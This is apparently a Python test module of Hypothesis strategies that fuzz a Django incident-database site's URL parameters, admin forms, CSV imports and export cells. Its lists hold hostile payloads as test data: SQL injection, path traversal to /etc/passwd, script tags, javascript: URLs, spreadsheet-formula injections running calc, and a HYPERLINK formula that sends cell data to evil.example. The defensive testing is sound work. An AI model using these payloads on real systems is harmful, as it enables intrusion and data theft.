"""Hypothesis strategies for hostile input: query strings and admin form values.

Two kinds: junk that knows nothing of the site (raw bytes, broken percent-encoding,
repeated keys), and — more likely to reach deep code — the real parameter and field
names with values chosen to break parsers: numbers beyond any column, NaN and infinity,
impossible or out-of-range dates, other scripts' digits, SQL, NUL, empty.
"""

import base64
from urllib.parse import quote, urlencode

from hypothesis import strategies as st

from incidents.charts import INTERVALS
from incidents.filters import SORTS
from incidents.models import Claim, Confidence, Incident, IncidentSource, Location, Source

NASTY = st.sampled_from(
    [
        "",
        " ",
        "0",
        "-1",
        "-0",
        "1.5",
        "1e309",
        "-1e309",
        "NaN",
        "nan",
        "inf",
        "-Infinity",
        "9" * 30,
        "-" + "9" * 30,
        str(2**63),
        str(2**31),
        "0x1F",
        "1_000",
        "٣",
        "۳",
        "𝟛",
        "¹",
        "Ⅻ",
        "' OR '1'='1",
        "1; DROP TABLE incidents_incident; --",
        "%",
        "%00",
        "\x00",
        "a\x00b",
        "\u202e",
        "null",
        "None",
        "[]",
        "{}",
        "true",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
    ]
)
TEXT = st.text(st.characters(codec="utf-8"), max_size=30)
LONG = st.builds(
    lambda piece, times: piece * times, st.sampled_from(["9", "a", "ك", ",", "-", "\x00"]), st.integers(200, 5000)
)
NASTY_TEXT = st.one_of(NASTY, TEXT, LONG)


def valid_or_nasty(values):
    return st.one_of(st.sampled_from(list(values)), NASTY_TEXT)


DATES = st.one_of(
    st.sampled_from(
        [
            "2020-02-30",
            "2019-02-29",
            "0000-01-01",
            "0001-01-01",
            "9999-12-31",
            "9999-12-28",
            "10000-01-01",
            "2020-13-01",
            "2020-00-10",
            "٢٠٢٠-٠٣-١١",
            "2020-1-1",
            "20200311",
            "2020/03/11",
            "11/03/2020",
            "2020-03-11T10:00",
            "-2020-03-11",
            "+2020-03-11",
            " 2020-03-11 ",
            "11 Mar 2020",
            "March 11, 2020",
            "31 Sept 2020",
            "11 Mar 20",
            "11.03.2020",
            "1st Foo 2020",
            "11 März 2020",
        ]
    ),
    st.dates().map(str),
    NASTY_TEXT,
)
INTEGERS = st.one_of(st.integers().map(str), st.integers(-3, 3000).map(str), NASTY_TEXT)
NUMBERS = st.one_of(
    st.floats().map(str),
    st.floats(-200, 200).map(str),
    st.integers(-400, 400).map(str),
    st.sampled_from(["90.0000001", "-180.0000001", "33.1234567", "1e2", "-0", "٣٣.٣"]),
    NASTY_TEXT,
)
BBOXES = st.one_of(
    st.lists(NUMBERS, max_size=6).map(",".join),
    st.tuples(st.floats(-180, 180), st.floats(-90, 90), st.floats(-180, 180), st.floats(-90, 90)).map(
        lambda corners: ",".join(map(str, corners))
    ),
    NASTY_TEXT,
)


def drf_cursor(offset, reverse, position):
    """A cursor as DRF's CursorPagination encodes it, around a hostile position."""
    tokens = urlencode({"o": offset, "r": reverse, "p": position})
    return base64.b64encode(tokens.encode()).decode()


CURSORS = st.one_of(
    st.builds(drf_cursor, INTEGERS, st.sampled_from(["0", "1", "2", "x"]), DATES),
    st.binary(max_size=40).map(lambda raw: base64.b64encode(raw).decode()),
    NASTY_TEXT,
)
SORT_VALUES = [prefix + name for pair in SORTS for name in pair for prefix in ("", "-")] + ["--date", "date,-killed"]
GROUP_SLUGS = ["kataib-test", "front-test", "no-incidents-test"]

# Every parameter a public URL reads (incidents/filters.py, views.py, maps.py, charts.py,
# api.py and the schema view), with the values to try.
QUERY_PARAMETERS = {
    "date_after": DATES,
    "date_before": DATES,
    "type": valid_or_nasty(Incident.Type.values),
    "group": valid_or_nasty(GROUP_SLUGS),
    "with_fronts": valid_or_nasty(["1", "0", "on", "off", "true", "false", "yes", "no", "2"]),
    "governorate": valid_or_nasty(["baghdad", "anbar", "basra"]),
    "target": valid_or_nasty(Incident.Target.values),
    "confidence": valid_or_nasty(Confidence.values),
    "q": valid_or_nasty(["rocket", "كتائب", "Kata'ib", "%", "_", "\\", "'"]),
    "sort": valid_or_nasty(SORT_VALUES),
    "page": INTEGERS,
    "page_size": INTEGERS,
    "bbox": BBOXES,
    "zoom": INTEGERS,
    "interval": valid_or_nasty(INTERVALS),
    "format": valid_or_nasty(["native", "acled", "json", "api", "yaml", "csv", "openapi", "openapi-json"]),
    "cursor": CURSORS,
    "lang": valid_or_nasty(["en", "ar", "de", "xx", "en-us"]),
    "version": NASTY_TEXT,
}


def pairs_of(values_by_name, max_size):
    """Lists of (name, value): names may repeat, as in ?type=rocket&type=ied."""
    pair = st.sampled_from(list(values_by_name)).flatmap(lambda name: st.tuples(st.just(name), values_by_name[name]))
    return st.lists(pair, max_size=max_size)


# Query strings as a WSGI server hands them to Django: bytes read as latin-1.
FILTER_QUERIES = pairs_of(QUERY_PARAMETERS, max_size=6).map(urlencode)
JUNK_QUERIES = st.one_of(
    st.binary(max_size=200).map(lambda raw: raw.decode("latin-1")),
    TEXT.map(lambda text: text.encode().decode("latin-1")),
    st.lists(
        st.one_of(
            st.sampled_from(
                ["%", "%zz", "%00", "%ff", "%c3%28", "%u0041", "&", "=", "==", ";", "+", "[]", "&&", "?", "#"]
                + list(QUERY_PARAMETERS)
            ),
            TEXT.map(quote),
        ),
        max_size=30,
    ).map("".join),
    st.builds(
        lambda name, value, times: "&".join([f"{name}={value}"] * times),
        st.sampled_from(list(QUERY_PARAMETERS)),
        st.sampled_from(["rocket", "1", "baghdad", ""]),
        st.integers(2, 1200),
    ),
)

# Admin form fields.
IDS = st.one_of(
    st.integers(-2, 50).map(str), st.sampled_from(["99999999999999999999", str(2**63), "1.0", "1e3"]), NASTY_TEXT
)
COUNTS = st.one_of(st.integers(-3, 3000).map(str), NASTY_TEXT)
URLS = st.one_of(
    st.sampled_from(
        [
            "http://[::1",
            "http://[",
            "javascript:alert(1)",
            "http://exa mple.org",
            "//example.org",
            "example.org",
            "http://999.999.999.999",
            "http://xn--",
            "http://例え.テスト/",
            "https://example.org/" + "a" * 1200,
            "https://ex\x00ample.org",
            "http://-.~_!$&'()*+,;=:%40:80%2f::::::@example.com",
            "ftp://example.org",
        ]
    ),
    NASTY_TEXT,
)
TIMES = st.one_of(
    st.sampled_from(["25:00", "12:60", "-1:00", "24:00", "12:00:00.9999999", "noon", "٠٩:٣٠"]),
    st.times().map(str),
    NASTY_TEXT,
)


def inline_fields(prefix, row):
    """A formset's management form (which may lie) and its first two rows' fields."""
    fields = {f"{prefix}-{key}": COUNTS for key in ("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")}
    for index in (0, 1):
        fields.update({f"{prefix}-{index}-{name}": values for name, values in row.items()})
        fields.update({f"{prefix}-{index}-id": IDS, f"{prefix}-{index}-DELETE": valid_or_nasty(["on", ""])})
    return fields


# A claim, a source link and a group relation: as rows of their parent's form, and alone on
# their own admin pages.
CLAIM_FIELDS = {
    "kind": valid_or_nasty(Claim.Kind.values),
    "group": IDS,
    "actor": NASTY_TEXT,
    "stated_by": NASTY_TEXT,
    "stated_on": DATES,
    "channel": valid_or_nasty(Claim.Channel.values),
    "url": URLS,
    "confidence": valid_or_nasty(Confidence.values),
    "note": NASTY_TEXT,
    "incident": IDS,
}
SOURCE_LINK_FIELDS = {
    "source": IDS,
    "excerpt": NASTY_TEXT,
    "credibility": valid_or_nasty(map(str, IncidentSource.Credibility.values)),
    "incident": IDS,
}
RELATION_FIELDS = {
    "kind": valid_or_nasty(["front_for", "part_of", "splinter_of", "sponsored_by"]),
    "object": IDS,
    "confidence": valid_or_nasty(Confidence.values),
    "source": IDS,
    "note": NASTY_TEXT,
    "subject": IDS,
}
INCIDENT_FIELDS = {
    "title": NASTY_TEXT,
    "type": valid_or_nasty(Incident.Type.values),
    "target": valid_or_nasty(Incident.Target.values),
    "target_detail": NASTY_TEXT,
    "summary": NASTY_TEXT,
    "date": DATES,
    "date_precision": valid_or_nasty(Incident.DatePrecision.values),
    "date_end": DATES,
    "time": TIMES,
    "killed": INTEGERS,
    "wounded": INTEGERS,
    "confidence": valid_or_nasty(Confidence.values),
    "status": valid_or_nasty(Incident.Status.values),
    "retraction_reason": NASTY_TEXT,
    "location": IDS,
    "place_name": NASTY_TEXT,
    "place_governorate": IDS,
    "place_latitude": NUMBERS,
    "place_longitude": NUMBERS,
    "place_precision": valid_or_nasty(Location.Precision.values),
    "place_kind": valid_or_nasty(Location.Kind.values),
    "not_a_duplicate": valid_or_nasty(["on", ""]),
    "edit_version": INTEGERS,
    **inline_fields("claims", CLAIM_FIELDS),
    **inline_fields("source_links", SOURCE_LINK_FIELDS),
}
GROUP_FIELDS = {
    "name": NASTY_TEXT,
    "slug": valid_or_nasty(["a-new-group", "kataib-test", "-", "ك"]),
    "arabic_name": NASTY_TEXT,
    "aliases": NASTY_TEXT,
    "kind": valid_or_nasty(["militia", "front", "umbrella", "state"]),
    "description": NASTY_TEXT,
    **inline_fields("relations", RELATION_FIELDS),
}
LOCATION_FIELDS = {
    "name": NASTY_TEXT,
    "arabic_name": NASTY_TEXT,
    "governorate": IDS,
    "country": NASTY_TEXT,
    "latitude": NUMBERS,
    "longitude": NUMBERS,
    "geo_precision": valid_or_nasty(Location.Precision.values),
    "kind": valid_or_nasty(Location.Kind.values),
    "notes": NASTY_TEXT,
}
SOURCE_FIELDS = {
    "publisher": NASTY_TEXT,
    "title": NASTY_TEXT,
    "url": URLS,
    "published_on": DATES,
    "language": valid_or_nasty(["en", "ar", "fa", "english-language"]),
    "archive_url": URLS,
    "reliability": valid_or_nasty(Source.Reliability.values),
    "notes": NASTY_TEXT,
}


def changes_to(fields, max_size=5):
    """A few of the form's fields, each set to a hostile value."""
    return pairs_of(fields, max_size).map(dict)


NATIVE_COLUMNS = [
    "uid",
    "id",
    "title",
    "date",
    "date_end",
    "date_precision",
    "type",
    "target",
    "location",
    "governorate",
    "country",
    "latitude",
    "longitude",
    "geo_precision",
    "killed",
    "wounded",
    "claimed_by",
    "attributed_to",
    "sources",
    "confidence",
    "summary",
]
CSV_CELLS = st.one_of(DATES, NUMBERS, valid_or_nasty(Incident.Type.values + ["Baghdad", "Camp Taji"]), URLS)


def csv_text(header, rows):
    quote_cell = lambda cell: '"' + cell.replace('"', '""') + '"'  # noqa: E731
    return "\n".join(",".join(map(quote_cell, line)) for line in [header, *rows]).encode("utf-8", "surrogatepass")


CSV_FILES = st.one_of(
    st.binary(max_size=300),
    st.builds(
        csv_text,
        st.lists(st.sampled_from(NATIVE_COLUMNS), min_size=1, max_size=12, unique=True),
        st.lists(st.lists(CSV_CELLS, max_size=13), max_size=4),
    ),
    st.builds(
        lambda rows: csv_text(["title", "date", "type", "location"], rows),
        st.lists(st.tuples(NASTY_TEXT, DATES, CSV_CELLS, NASTY_TEXT), min_size=1, max_size=4),
    ),
)

# Text that export cells must write faithfully and safely: formulas and the numbers that look
# like them, CSV quoting, line breaks, other scripts and digits, bidi controls, long text.
# No NUL: PostgreSQL's text can't hold it, so no incident can.
CELL_TEXT_VALUES = [
    "",
    " ",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\tx",
    "\rx",
    "-5",
    "+3",
    "-1.5",
    "-.5e3",
    "-5\n",
    "-inf",
    "-nan",
    "-1_000",
    "-٣",
    "\t5",
    "'=already neutral",
    'a "quote", a comma; a semicolon',
    "two\nlines",
    "windows\r\nline",
    "هجوم صاروخي على قاعدة",
    "كتائب حزب الله",
    "\u202eexe.pdf",
    "\u202e=1+1",
    "\u2066=cmd\u2069",
    "a\u200fb\u200ec\u061cd\u202a\u202b\u202c\u202d",
    "emoji 🚀 and 𝟛",
    "publisher: title <https://example.org/x>",
    "; ",
    "x" * 3000,
]
FORMULA_ALPHABET = "=+-@\t\r\n 0123456789.eE'\"abc٣\u202e\u2066\u200f\u061c"
CELL_TEXT = st.one_of(
    st.sampled_from(CELL_TEXT_VALUES),
    st.text(FORMULA_ALPHABET, max_size=12),
    NASTY_TEXT.filter(lambda text: "\x00" not in text),
)
